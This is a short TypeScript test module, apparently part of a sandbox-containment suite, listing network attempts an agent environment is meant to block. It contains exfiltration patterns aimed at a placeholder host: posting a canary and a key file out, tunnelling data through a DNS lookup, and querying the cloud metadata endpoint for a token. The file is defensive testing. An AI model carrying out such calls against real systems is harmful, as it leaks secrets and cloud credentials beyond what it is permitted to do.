import { readFileSync } from "node:fs";
import type { Attempt } from "../agent.ts";

/** Names under .invalid resolve nowhere (RFC 6761): without a policy these calls fail as well, only later. */
const COLLECTOR = "exfil.example.invalid";
const CANARY = "canary-hostile-0000";
const TIMEOUT_MS = 5_000;

const signal = () => AbortSignal.timeout(TIMEOUT_MS);

async function post(url: string, body: string): Promise<string> {
  const response = await fetch(url, { method: "POST", body, signal: signal() });
  return `${url} answered ${response.status}`;
}

async function lookUp(name: string): Promise<string> {
  // @ts-expect-error: no agent has it, which is what is tried
  const dns = await import("node:dns/promises");
  const { address } = await dns.lookup(name);
  return `${name} is ${address}`;
}

export const networkAttempts: readonly Attempt[] = [
  { name: "send a canary out", run: () => post(`https://${COLLECTOR}/collect`, CANARY) },
  { name: "send a key out", run: () => post(`https://${COLLECTOR}/k`, readFileSync("secrets/canary.key", "utf8")) },
  { name: "carry data out in a name", run: () => lookUp(`${CANARY}.${COLLECTOR}`) },
  { name: "ask the cloud for credentials", run: () => post("http://169.254.169.254/latest/api/token", "") },
];
